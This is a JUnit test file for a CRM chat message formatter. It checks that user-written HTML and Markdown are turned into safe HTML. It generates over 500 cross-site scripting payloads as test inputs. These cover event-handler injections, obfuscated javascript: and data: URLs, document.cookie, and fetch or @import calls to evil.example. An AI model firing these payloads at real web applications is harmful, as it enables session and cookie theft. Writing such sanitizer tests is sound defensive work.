package com.pivotino.crm.chatter.internal.content;

import static org.junit.Assert.assertEquals;
import static org.junit.Assert.assertFalse;
import static org.junit.Assert.assertThrows;
import static org.junit.Assert.assertTrue;

import com.pivotino.crm.api.CrmException;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.Test;

/** What people write comes out as safe HTML, whatever it is (SEMANTICS C3). */
public class MessageFormatterTest {

    private static final Set<String> ELEMENTS = Set.of("p", "br", "div", "b", "strong", "i", "em", "u", "s", "del", "code", "pre",
            "blockquote", "ul", "ol", "li", "h1", "h2", "h3", "h4", "hr", "a", "table", "thead", "tbody", "tr", "th", "td", "span");
    private static final Pattern TAG = Pattern.compile("<(/?)([a-zA-Z][^\\s/>]*)([^>]*)>");
    private static final Pattern ATTRIBUTE = Pattern.compile("\\s+([a-z-]+)=\"([^\"<>]*)\"|\\s*/");
    private static final String[] CODE = {"alert(1)", "javascript:alert(1)", "document.cookie", "fetch('//evil.example')"};
    private static final String[] HANDLERS = {"onerror", "onload", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle",
        "onpointerenter", "onbegin", "onwheel"};
    private static final String[] TAGS = {"img", "svg", "body", "iframe", "video", "details", "input", "a", "p", "math", "marquee",
        "object", "embed", "table", "form"};
    private static final String[] SCHEMES = {"javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\u0001javascript:",
        "vbscript:", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=", "&#106;avascript:",
        "&#x6A;avascript:", "javascript&colon;", "feed:javascript:", "//evil.example/", "file:///etc/passwd", "blob:x"};

    private final MessageFormatter formatter = new MessageFormatter();

    @Test
    public void five_hundred_payloads_leave_no_script_handler_or_odd_address_behind() {
        Set<String> payloads = payloads();
        assertTrue("only " + payloads.size(), payloads.size() >= 500);
        for (String payload : payloads) {
            for (String format : List.of("html", "markdown")) {
                String html = formatter.html(payload, format);
                requireSafe(payload, html);
                MentionScanner scanner = new MentionScanner(html);
                scanner.find();
                requireSafe(payload, scanner.resolve(Map.of(new MentionKey("user", 7), "<img src=x onerror=alert(1)>\"'"), Map.of())
                        .html());
                assertEquals("cleaning twice changes nothing: " + payload, html, formatter.clean(html));
            }
        }
    }

    @Test
    public void markdown_formats_and_raw_html_in_it_is_shown_as_it_stands() {
        assertEquals("<p>a <strong>b</strong><em>c</em><br />d</p>", tidy("a **b** *c*\nd"));
        assertEquals("<ul><li>one</li><li>two</li></ul>", tidy("- one\n- two"));
        assertEquals("<p>&lt;b&gt;x&lt;/b&gt;</p>", tidy("<b>x</b>"));
        assertEquals("", formatter.html("<p>&nbsp;</p><br>", "html"));
        assertEquals("", formatter.html(" \n ", null));
    }

    @Test
    public void what_is_too_long_or_nested_too_deeply_ends_in_a_refusal_or_in_text_and_quickly() {
        assertThrows(CrmException.class, () -> formatter.html("x".repeat(50_001), null));
        assertThrows(CrmException.class, () -> formatter.html("x", "rtf"));
        for (String deep : List.of("> ", "*a **", "[", "![", "- ", "<div>", "`", "_a __", "1. ", "[a](", "\\", "&")) {
            String text = deep.repeat(50_000 / deep.length());
            long from = System.nanoTime();
            for (String format : List.of("markdown", "html")) {
                try {
                    requireSafe(deep, formatter.html(text, format));
                } catch (CrmException e) {
                    assertEquals("too_long", e.fields().get(0).code());
                }
            }
            assertTrue(deep + " took too long", System.nanoTime() - from < 10_000_000_000L);
        }
    }

    @Test
    public void addresses_become_links_and_cite_nobody() {
        MentionScanner.Resolved resolved = new MentionScanner(formatter.html(
                "See https://a.example/@bob?x=1&y=2. Or `https://b.example`", null)).resolve(Map.of(), Map.of());
        assertTrue(resolved.html(), resolved.html().contains("<a href=\"https://a.example/@bob?x=1&amp;y=2\" rel="));
        assertTrue(resolved.html(), resolved.html().contains("<code>https://b.example</code>"));
        assertEquals(List.of(), resolved.unresolved());
    }

    @Test
    public void a_name_of_several_people_is_left_as_text() {
        MentionScanner.Resolved resolved = new MentionScanner("<p>@Ann Lee hi</p>").resolve(Map.of(), Map.of("ann lee",
                Set.of(new MentionKey("user", 1), new MentionKey("user", 2)), "ann", Set.of(new MentionKey("user", 3))));
        assertEquals(List.of("@Ann Lee"), resolved.unresolved());
        assertEquals(Set.of(), resolved.mentions());
    }

    private String tidy(String markdown) {
        return formatter.html(markdown, null).replaceAll(">\\s+<", "><").strip();
    }

    private static Set<String> payloads() {
        Set<String> all = new LinkedHashSet<>();
        for (String tag : TAGS) {
            for (String handler : HANDLERS) {
                all.add("<" + tag + " src=x " + handler + "=alert(1)>x");
                all.add("<" + tag + "/" + handler + "='alert(1)' autofocus>");
                all.add("<" + tag.toUpperCase(java.util.Locale.ROOT) + " " + handler + "\n=\n\"alert(1)\">");
            }
        }
        for (String scheme : SCHEMES) {
            for (String code : CODE) {
                all.add("<a href=\"" + scheme + code + "\">x</a>");
                all.add("[x](" + scheme + code + ")");
                all.add("[x]: " + scheme + code + "\n\n[x]");
                all.add("![x](" + scheme + code + ")");
                all.add("<" + scheme + code + ">");
                all.add("<form action='" + scheme + code + "'><button formaction='" + scheme + code + "'>x");
            }
        }
        all.addAll(List.of("<script>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<style>@import '//evil.example'</style>",
                "<p style=\"background:url(javascript:alert(1))\">x</p>", "<span class=\"mention\" data-mention=\"user:1\">@Boss</span>",
                "<svg><script>alert(1)</script></svg>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "<!--><img src=x onerror=alert(1)>",
                "<![CDATA[<script>alert(1)</script>]]>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "@[user:7]<script>",
                "`<script>alert(1)</script>`", "    <script>alert(1)</script>", "<template><script>alert(1)</script></template>",
                "<base href='//evil.example/'>",
                "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<link rel=stylesheet href='//evil.example'>",
                "https://a.example/\"onmouseover=\"alert(1)",
                "https://a.example/<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;",
                "<a href='https://a.example' target=_blank onclick=x>y</a>"));
        return all;
    }

    /** Reads the output as a browser does: only known elements, only their attributes, only harmless addresses. */
    private static void requireSafe(String payload, String html) {
        Matcher tag = TAG.matcher(html);
        List<String> parts = new ArrayList<>();
        int from = 0;
        while (tag.find()) {
            parts.add(html.substring(from, tag.start()));
            from = tag.end();
            assertTrue(payload + " > " + html, ELEMENTS.contains(tag.group(2)));
            requireSafeAttributes(payload, html, tag.group(2), tag.group(3));
        }
        parts.add(html.substring(from));
        parts.forEach(text -> assertFalse(payload + " > " + html, text.contains("<") || text.contains(">")));
    }

    private static void requireSafeAttributes(String payload, String html, String element, String attributes) {
        Matcher attribute = ATTRIBUTE.matcher(attributes);
        int from = 0;
        while (attribute.find()) {
            assertEquals(payload + " > " + html, from, attribute.start());
            from = attribute.end();
            String name = attribute.group(1);
            if (name == null) {
                continue;
            }
            boolean known = element.equals("a") && Set.of("href", "rel").contains(name)
                    || element.equals("span") && Set.of("class", "data-mention").contains(name);
            assertTrue(payload + " > " + html, known);
            assertTrue(payload + " > " + html, !name.equals("href") || attribute.group(2)
                    .matches("(?i)(https?:|mailto:|tel:|/|#|[^:]*$).*"));
        }
        assertEquals(payload + " > " + html, attributes.stripTrailing().length(), Math.min(from, attributes.stripTrailing().length()));
    }
}
